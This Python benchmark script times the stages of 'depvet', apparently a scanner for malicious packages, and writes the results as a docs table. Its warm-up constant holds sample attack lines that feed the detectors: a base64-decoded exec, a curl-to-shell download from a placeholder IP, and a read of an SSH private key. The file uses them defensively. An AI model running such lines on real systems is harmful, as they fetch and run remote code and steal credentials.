"""Where depvet's time goes, stage by stage, next to the bare floor.

    python -m benchmarks.stages [--jobs N] [--sample N] [--write-docs]

Every artifact of the benchmark's three sets by default (about four minutes on two
cores); ``--sample N`` times a random N of each.

Each sampled artifact is timed three ways in the same worker process: the floor of
``benchmarks.run`` (decompress and sha256 every member); depvet's scan of it
(in-process, no cache), with timers around CPython's parser (every ``ast.parse``),
the walk that builds a module's analysis (``ModuleAnalysis``), and each file
detector's own work (what it spends outside the parser and that walk); and depvet's
scan again with no file detectors at all: the pipeline alone (reading, hashing,
classifying files, judging). Timers are exclusive: a parse a detector triggers
counts as parsing, not as the detector.

The figures say which stages would have to shrink for depvet to stay within three
times the floor: "without parsing" is depvet's time less its parser's and
analysis walk's, as a multiple of the floor. Nothing scanned is imported or run.
"""

from __future__ import annotations

import ast
import functools
import multiprocessing
import sys
import time
from collections.abc import Callable, Iterator, Sequence
from contextlib import contextmanager
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

from benchmarks.archives import floor_one
from benchmarks.metrics import ratio, stratified_sample
from benchmarks.run import DOCS, SEED, discover, machine
from benchmarks.sections import sampled_main
from depvet.detectors import patterns, pysource, registry
from depvet.files import FileRole, FileView
from depvet.model import Target, TargetKind
from depvet.scan import ScanOptions, scan_target_safely

BEGIN, END = "<!-- stages -->", "<!-- /stages -->"
SETS = ("malicious", "benign-sdist", "benign-wheel")
PARSE, ANALYSIS = "parse", "analysis"


class Timers:
    """Exclusive seconds per stage: time spent in a nested timed stage counts there only."""

    def __init__(self, clock: Callable[[], float] = time.perf_counter) -> None:
        """No time yet; ``clock`` tells seconds."""
        self.clock = clock
        self.seconds: dict[str, float] = {}
        self._nested: list[float] = []

    @contextmanager
    def stage(self, name: str) -> Iterator[None]:
        """Count the block's time, less its nested stages', to ``name``."""
        started = self.clock()
        self._nested.append(0.0)
        try:
            yield
        finally:
            spent = self.clock() - started
            inner = self._nested.pop()
            self.seconds[name] = self.seconds.get(name, 0.0) + spent - inner
            if self._nested:
                self._nested[-1] += spent

    def wrap(self, name: str, function: Callable[..., Any]) -> Callable[..., Any]:
        """``function`` with its calls timed as stage ``name``."""

        @functools.wraps(function)
        def timed(*args: Any, **kwargs: Any) -> Any:
            with self.stage(name):
                return function(*args, **kwargs)

        return timed


TIMERS = Timers()


def install(timers: Timers = TIMERS) -> None:
    """Put timers around the parser, the analysis walk and every file detector's scan."""
    ast.parse = timers.wrap(PARSE, ast.parse)
    analysis = pysource.ModuleAnalysis
    analysis.__init__ = timers.wrap(ANALYSIS, analysis.__init__)  # type: ignore[method-assign]
    for detector in registry.detectors():
        kind = type(detector)
        label = f"detector {kind.__name__}"
        kind.scan = timers.wrap(label, kind.scan)  # type: ignore[method-assign]
        if hasattr(kind, "expand"):
            kind.expand = timers.wrap(label, kind.expand)


@dataclass(frozen=True, slots=True, kw_only=True)
class Stages:
    """One artifact's seconds: the floor, depvet (and by stage), the bare pipeline."""

    floor: float
    depvet: float
    pipeline: float
    stages: dict[str, float] = field(default_factory=dict)


def _scan(path: str) -> None:
    target = Target(kind=TargetKind.FILE, path=Path(path), display=path)
    scan_target_safely(target, ScanOptions(jobs=1, cache_dir=None))


def stages_one(path: str) -> Stages:
    """Time the floor, depvet by stage, and depvet with no file detectors, on one artifact."""
    started = time.perf_counter()
    floor_one(path)
    floor = time.perf_counter() - started
    TIMERS.seconds.clear()
    started = time.perf_counter()
    _scan(path)
    depvet = time.perf_counter() - started
    stages = dict(TIMERS.seconds)
    every = registry.detectors
    registry.detectors = lambda: ()  # type: ignore[assignment]
    try:
        started = time.perf_counter()
        _scan(path)
        pipeline = time.perf_counter() - started
    finally:
        registry.detectors = every
    return Stages(floor=floor, depvet=depvet, pipeline=pipeline, stages=stages)


# Words of several detectors' pre-filters and rules, so that warming up builds their matchers.
_WARM_SOURCE = (
    b"import base64, os, socket, subprocess, requests\n"
    b"exec(base64.b64decode('aW1wb3J0IG9zOyBvcy5zeXN0ZW0oImlkIik='))\n"
    b"os.system('curl http://203.0.113.7/x | sh')\n"
    b"open(os.path.expanduser('~/.ssh/id_rsa')).read()\n"
)


def warm_up() -> None:
    """Build what the detectors build on first use (word matchers, compiled rules).

    A scan pays for it once per process; timed on the first artifact it would be
    charged to whichever detector asked first.
    """
    for role in FileRole:
        view = FileView(path="warm.py", role=role, data=_WARM_SOURCE)
        for detector in registry.detectors():
            if detector.wants(view):
                list(detector.scan(view))
    patterns.compiled_rules()
    patterns.compiled_prefilter()


def _start_worker() -> None:
    warm_up()
    install()


def summarize(costs: Sequence[Stages], size: int) -> dict[str, Any]:
    """One set's sums, and each stage as a multiple of the floor."""
    floor = sum(c.floor for c in costs)
    depvet = sum(c.depvet for c in costs)
    stages: dict[str, float] = {}
    for cost in costs:
        for name, seconds in cost.stages.items():
            stages[name] = stages.get(name, 0.0) + seconds
    parsing = stages.get(PARSE, 0.0) + stages.get(ANALYSIS, 0.0)
    return {
        "artifacts": len(costs),
        "size": size,
        "floor_s": floor,
        "depvet_s": depvet,
        "pipeline_s": sum(c.pipeline for c in costs),
        "stages_s": dict(sorted(stages.items(), key=lambda item: -item[1])),
        "without_parsing_s": depvet - parsing,
    }


def mixed(sets: dict[str, dict[str, Any]]) -> dict[str, float]:
    """Each figure over the whole mixed set: every set's per-artifact mean times its size."""

    def total(key: str) -> float:
        return sum(
            float(r[key]) / int(r["artifacts"]) * int(r["size"])
            for r in sets.values()
            if r["artifacts"]
        )

    floor = total("floor_s")
    return {
        key: ratio(total(key), floor) for key in ("depvet_s", "pipeline_s", "without_parsing_s")
    }


def run(jobs: int, sample: int) -> dict[str, Any]:
    """The stages of each set's sample."""
    sets = discover()
    rows: dict[str, dict[str, Any]] = {}
    context = multiprocessing.get_context("forkserver")
    with context.Pool(jobs, initializer=_start_worker) as pool:
        for name in SETS:
            if name not in sets:
                continue
            paths = sets[name]
            if sample:
                paths = stratified_sample({name: paths}, {name: sample}, SEED)[name]
            print(f"[{name}] {len(paths)} artifacts…", file=sys.stderr)
            costs: list[Stages] = pool.map(stages_one, paths, chunksize=4)
            rows[name] = summarize(costs, len(sets[name]))
    return {"jobs": jobs, "sample": sample, "machine": machine(), "sets": rows}


def _stage(name: str, result: dict[str, Any]) -> float:
    return float(result["stages_s"].get(name, 0.0))


def _times(seconds: float, floor: float) -> str:
    return f"{ratio(seconds, floor):.2f}x"


def render(result: dict[str, Any]) -> str:
    """The docs section."""
    m = result["machine"]
    sets: dict[str, dict[str, Any]] = result["sets"]
    names = sorted({stage for r in sets.values() for stage in r["stages_s"]})
    detectors = [n for n in names if n not in (PARSE, ANALYSIS)]
    sampled = f" --sample {result['sample']}" if result["sample"] else ""
    lines = [
        BEGIN,
        "## Where the time goes",
        "",
        f"Run {m['date']} with `python -m benchmarks.stages{sampled} --write-docs`"
        f" (`--jobs {result['jobs']}`) on {m['nproc']} cores, Python {m['python']}."
        f" {'A random sample of each set' if result['sample'] else 'Every artifact of each set'},"
        " each artifact timed in the same"
        " worker process three ways: the floor; depvet's scan (in-process, no cache) with"
        " timers around the parser, the analysis walk and each file detector's own work"
        " (exclusive: a parse a detector asks for counts as parsing); and depvet with no"
        " file detectors at all (*pipeline alone*: reading, hashing, classifying, judging)."
        " Every figure is a multiple of the floor on the same artifacts. *Rest* is depvet's"
        " time outside the timed stages and the bare pipeline: the per-file work around the"
        " detectors and freeing syntax trees. *Without parsing* is depvet's time less the"
        " parser's and the analysis walk's.",
        "",
        "| stage | " + " | ".join(sets) + " |",
        "|---|" + "---|" * len(sets),
    ]

    def row(label: str, value: Callable[[dict[str, Any]], float]) -> None:
        cells = [_times(value(r), r["floor_s"]) for r in sets.values()]
        lines.append(f"| {label} | " + " | ".join(cells) + " |")

    lines.append(
        "| artifacts (floor s) | "
        + " | ".join(f"{r['artifacts']} ({r['floor_s']:.1f} s)" for r in sets.values())
        + " |"
    )
    row("**depvet**", lambda r: r["depvet_s"])
    row("pipeline alone", lambda r: r["pipeline_s"])
    row("parser (`ast.parse`)", lambda r: r["stages_s"].get(PARSE, 0.0))
    row("analysis walk", lambda r: r["stages_s"].get(ANALYSIS, 0.0))
    for name in detectors:
        row(name.replace("detector ", "detector `") + "`", functools.partial(_stage, name))
    row(
        "rest",
        lambda r: r["depvet_s"] - r["pipeline_s"] - sum(r["stages_s"].values()),
    )
    row("**without parsing**", lambda r: r["without_parsing_s"])
    whole = mixed(sets)
    lines += [
        "",
        "Over the whole mixed set (each set's mean per artifact times its size): depvet"
        f" {whole['depvet_s']:.2f}x the floor in-process, the pipeline alone"
        f" {whole['pipeline_s']:.2f}x, and depvet without its parsing and analysis walk"
        f" {whole['without_parsing_s']:.2f}x.",
    ]
    return "\n".join([*lines, "", END])


def main(argv: Sequence[str] | None = None) -> int:
    """Parse the command line, measure, print and optionally write the docs."""
    sample = (0, "artifacts per set (default: every one)")
    return sampled_main(
        argv, "python -m benchmarks.stages", sample, run, render, DOCS, (BEGIN, END)
    )


if __name__ == "__main__":
    raise SystemExit(main())
